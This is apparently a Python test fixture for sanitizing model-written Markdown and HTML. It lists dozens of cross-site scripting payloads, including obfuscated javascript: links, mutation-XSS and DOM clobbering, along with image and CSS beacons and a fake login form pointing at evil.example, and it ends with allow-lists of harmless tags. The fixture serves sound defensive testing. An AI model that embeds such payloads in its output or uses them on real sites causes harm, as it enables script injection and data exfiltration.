"""Texts that a model may be made to write, and what may be left of them on the page."""

# Whatever calls `ran`, or asks evil.example for anything, has won.
HOSTILE = [
    "<script>ran()</script>",
    "<script src='https://evil.example/a.js'></script>",
    "<img src=x onerror=ran()>",
    "text <img src='https://evil.example/pixel.png'> text",
    "![beacon](https://evil.example/pixel.png?secret)",
    "![beacon](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](https://evil.example/a.png"onerror="ran())',
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    "[![x](https://evil.example/in.png)](https://evil.example/out)",
    "[click](javascript:ran())",
    "[click](java\nscript:ran())",
    "[click](JaVaScRiPt:ran())",
    "[click](&#106;avascript:ran())",
    "[click](&#x6A;avascript&colon;ran())",
    "<javascript:ran()>",
    "[click](data:text/html,<script>ran()</script>)",
    "[click](vbscript:ran())",
    "[click](//evil.example/x)",
    "[click](/edged/v1/status)",
    '[click](https://evil.example "onmouseover=ran()")',
    "<a href='javascript:ran()'>x</a>",
    "<svg onload=ran()><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/a.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data='https://evil.example/a.swf'></object><embed src='https://evil.example/b'>",
    "<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>",
    "<p style='background:url(https://evil.example/c.png)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/d.css><link rel=prefetch href=https://evil.example/e>",
    "<form action='https://evil.example'><input name=password autofocus onfocus=ran()><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<video src='https://evil.example/v.mp4' autoplay></video><audio src='https://evil.example/a' autoplay></audio>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<template><img src=x onerror=ran()></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<div id=conversation name=body class=error>clobbered</div>",
    "```html\n<img src=x onerror=ran()>\n</code></pre><script>ran()</script>\n```",
    '```"><img src=x onerror=ran()>\ncode\n```',
    "`<img src=x onerror=ran()>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=ran()> | <br onclick=ran()> |",
    "- [ ] <input onfocus=ran() autofocus>",
    "<br/onload=ran()>",
    "<sub onclick=ran()>x</sub>",
    ">" * 3000 + " deep",
    "[" * 3000,
    "**" * 3000,
]

# Exactly what the page makes of Markdown, its frames and copy buttons included.
_ELEMENTS = """
    p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code kbd strong em del sub sup a
    table thead tbody tr th td div span button
"""
_ATTRIBUTES = "href rel target title align start data-language class tabindex type"
HARMLESS_ELEMENTS = frozenset(_ELEMENTS.split())
HARMLESS_ATTRIBUTES = frozenset(_ATTRIBUTES.split())
